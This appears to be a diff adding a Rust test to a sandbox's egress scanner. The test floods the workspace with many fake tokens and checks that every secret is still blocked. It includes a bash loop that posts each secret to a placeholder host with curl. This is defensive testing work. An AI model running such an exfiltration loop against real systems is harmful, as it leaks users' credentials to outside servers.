@@ -104,6 +104,26 @@ fn what_is_denied_is_known_to_what_looks_through_output_and_changes() {
     assert!(!outcome.out.contains(secret) && outcome.out.contains("service/.env"), "{outcome:?}");
 }
 
+/// Whoever writes what is denied crowds out nothing, and is told of.
+#[test]
+fn more_secrets_than_are_looked_for_are_told_of() {
+    let (world, policy, _) = world("scan = [\"egress\"]");
+    for file in 0..20 {
+        let text: String =
+            (0..64).map(|line| format!("A_TOKEN=plain-word-{file}-{line}-of-many\n")).collect();
+        world.place.write(format!("private/many/{file}"), &text);
+    }
+    world
+        .place
+        .write("words", HOME.iter().map(|(_, _, secret)| format!("{secret}\n")).collect::<String>().as_str());
+    let outcome = world.host(&format!(
+        r#"export SSL_CERT_FILE=$BASE/ca.pem; exec "$RF" run --quiet --policy {policy} --workspace . -- bash -c '
+while read -r word; do curl -sm9 -o /dev/null -w "%{{http_code}} " https://allowed.example/repo/x --data-binary "$word"; done < words'"#
+    ));
+    assert_eq!(outcome.out, "403 ".repeat(HOME.len()), "{outcome:?}");
+    assert!(outcome.err.contains("the first 512 are looked for"), "{outcome:?}");
+}
+
 #[test]
 fn ordinary_requests_pass() {
     let (world, policy, secrets) = world("scan = [\"egress\"]");
